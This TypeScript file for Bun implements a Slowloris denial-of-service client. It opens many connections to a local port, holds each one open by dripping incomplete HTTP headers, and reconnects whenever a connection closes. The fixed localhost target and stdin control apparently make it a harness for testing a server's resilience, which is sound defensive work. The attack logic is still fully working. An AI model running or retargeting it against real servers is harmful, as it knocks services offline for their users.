// A process that holds connections open with heads that never end, a header now and then: what is
// called Slowloris. Takes port and count from the command line, says `open` when all are, and opens
// another for each that is closed; ends when its standard input does.

import { connect } from 'node:net'

const [port = 0, count = 0] = process.argv.slice(2).map(Number)
const DRIP_MS = 1_000
const AGAIN_MS = 100
let open = 0
let closed = 0
let isOver = false

const start = Promise.withResolvers<void>()

function attack(): void {
  if (isOver) return
  const socket = connect(port, '127.0.0.1', () => {
    open++
    if (open === count) start.resolve()
    socket.write('GET /api/v1/tasks HTTP/1.1\r\nHost: zerg.test\r\n')
  })
  const drip = setInterval(() => socket.write('X-A: b\r\n'), DRIP_MS)
  socket.on('error', () => {})
  socket.on('data', () => {})
  socket.once('close', () => {
    clearInterval(drip)
    closed++
    setTimeout(attack, AGAIN_MS)
  })
}

// Not all within the same instant: the queue of a listener is shorter than that.
for (let made = 0; made < count; made += 50) {
  for (let index = 0; index < Math.min(50, count - made); index++) attack()
  await Bun.sleep(5)
}
await start.promise
process.stdout.write('open\n')
await Bun.stdin.text()
isOver = true
process.stdout.write(`${JSON.stringify({ opened: open, closed })}\n`)
process.exit(0)
